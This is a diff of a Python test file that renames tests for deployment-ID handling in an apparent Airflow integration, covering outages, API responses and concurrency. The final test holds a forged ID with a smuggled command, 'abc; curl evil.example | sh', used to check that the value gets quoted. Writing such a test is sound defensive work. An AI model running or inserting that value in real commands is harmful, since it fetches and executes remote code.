@@ -135,17 +135,17 @@ def test_an_id_is_created_once_and_the_same_for_every_process_with_that_database
     assert len(log) == 1
 
 
-def test_a_namespace_needs_no_database_and_goes_before_the_id():
+def test_a_namespace_overrides_the_id_and_needs_no_database():
     assert identify("staging") == get_deployment("staging") == "namespace:staging"
 
 
-def test_two_that_create_the_id_at_the_same_time_have_one(database):
+def test_processes_that_create_the_id_together_share_one(database):
     airflow_variables.add_variable(ID_VARIABLE, "first", description="")
     airflow_variables.add_variable(ID_VARIABLE, "second", description="")
     assert identify() == "id:first"
 
 
-def test_an_id_that_cannot_be_decrypted_any_more_does_not_become_a_new_one(database, other_fernet):
+def test_an_id_that_cannot_be_decrypted_is_not_replaced(database, other_fernet):
     other_fernet()
     first = identify()
     other_fernet()
@@ -161,7 +161,7 @@ def test_an_id_that_cannot_be_decrypted_any_more_does_not_become_a_new_one(datab
     assert first.startswith("id:")
 
 
-def test_a_database_that_does_not_answer_is_not_one_without_an_id(monkeypatch):
+def test_a_database_that_does_not_respond_does_not_count_as_empty(monkeypatch):
     def broken(key):
         raise OSError("no route to the database")
 
@@ -171,7 +171,7 @@ def test_a_database_that_does_not_answer_is_not_one_without_an_id(monkeypatch):
     assert no.value.retryable
 
 
-def test_an_outage_of_seconds_costs_no_attempt(monkeypatch):
+def test_a_short_outage_does_not_fail_the_attempt(monkeypatch):
     answers = iter([OSError("away"), OSError("away"), "abc"])
 
     def read(key):
@@ -184,7 +184,7 @@ def test_an_outage_of_seconds_costs_no_attempt(monkeypatch):
     assert identify() == "id:abc"
 
 
-def test_an_id_that_has_changed_since_the_attempt_began_pays_for_nothing(database):
+def test_a_changed_id_fails_before_anything_is_paid_for(database):
     mine = identify()
     require_same_deployment(None, mine)
     require_same_deployment("staging", "namespace:staging")
@@ -193,7 +193,7 @@ def test_an_id_that_has_changed_since_the_attempt_began_pays_for_nothing(databas
     assert no.value.retryable
 
 
-def test_an_outage_of_seconds_right_before_the_post_costs_no_attempt(monkeypatch):
+def test_a_short_outage_right_before_the_post_does_not_fail_the_attempt(monkeypatch):
     answers = iter([OSError("away"), "abc"])
 
     def read(key):
@@ -206,7 +206,7 @@ def test_an_outage_of_seconds_right_before_the_post_costs_no_attempt(monkeypatch
     require_same_deployment(None, "id:abc", sleep=lambda seconds: None)
 
 
-def test_where_several_teams_have_variables_of_their_own_no_id_is_created(api, monkeypatch):
+def test_no_id_is_created_in_multi_team_mode(api, monkeypatch):
     monkeypatch.setattr(module, "is_multi_team", lambda: True)
     with pytest.raises(Json2VideoError, match="multi-team"):
         identify()
@@ -218,7 +218,7 @@ def test_where_several_teams_have_variables_of_their_own_no_id_is_created(api, m
 # --- behind the Execution API, which only overwrites --------------------------------------------
 
 
-def test_tasks_that_create_the_id_at_once_behind_the_api_end_with_one(api):
+def test_tasks_that_create_the_id_together_through_the_api_share_one(api):
     together = threading.Barrier(8)
     found = []
 
@@ -242,7 +242,7 @@ def test_tasks_that_create_the_id_at_once_behind_the_api_end_with_one(api):
     assert set(found) == {f"id:{api.values[ID_VARIABLE]}"}
 
 
-def test_an_api_whose_database_is_away_says_not_found_and_nothing_is_overwritten(api):
+def test_an_id_is_not_overwritten_while_the_api_reports_not_found_during_an_outage(api):
     api.values[ID_VARIABLE] = "ours"
     api.reachable = False
     with pytest.raises(Json2VideoError, match="API_SERVER_ERROR") as no:
@@ -251,14 +251,14 @@ def test_an_api_whose_database_is_away_says_not_found_and_nothing_is_overwritten
     assert (api.values[ID_VARIABLE], api.puts) == ("ours", 0)
 
 
-def test_an_id_that_comes_back_while_its_absence_is_confirmed_is_used(api):
+def test_an_id_that_appears_during_the_confirmation_is_used(api):
     api.values[ID_VARIABLE] = "ours"
     api.unreadable.add(ID_VARIABLE)
     assert identify(sleep=lambda seconds: api.unreadable.clear()) == "id:ours"
     assert api.puts == 0
 
 
-def test_an_id_that_is_never_seen_after_it_was_written_is_unknown(api):
+def test_an_id_that_cannot_be_read_after_it_was_written_is_unknown(api):
     api.unreadable.add(ID_VARIABLE)
     with pytest.raises(Json2VideoError, match="'namespace'"):
         identify()
@@ -295,7 +295,7 @@ def supervisor(monkeypatch):
 
 
 @pytest.mark.parametrize("raises", [True, False])
-def test_not_found_is_told_from_an_api_that_cannot_answer(supervisor, raises):
+def test_not_found_is_distinguished_from_an_unavailable_api(supervisor, raises):
     from airflow.sdk.execution_time import comms
 
     supervisor.answers["GetVariable"] = comms.VariableResult(key=ID_VARIABLE, value="ours")
@@ -310,7 +310,7 @@ def test_not_found_is_told_from_an_api_that_cannot_answer(supervisor, raises):
     assert get_deployment(None) is None
 
 
-def test_a_variable_that_is_listed_and_not_found_cannot_be_read(supervisor):
+def test_a_variable_that_is_listed_but_not_found_cannot_be_read(supervisor):
     from airflow.sdk.execution_time import comms
 
     if not hasattr(comms, "GetVariableKeys"):
@@ -325,7 +325,7 @@ def test_a_variable_that_is_listed_and_not_found_cannot_be_read(supervisor):
         get_deployment(None)
 
 
-def test_what_a_stamp_says_is_quoted_in_the_command_that_an_error_advises(connection):
+def test_the_id_in_a_stamp_is_quoted_in_the_suggested_command(connection):
     identity = TaskIdentity("", "d", "r", "t", -1, 0)
     forged = replace(identity, deployment=deployment_from_id("abc; curl evil.example | sh"))
     mark = Stamp.of(forged, "f", attempt=1)
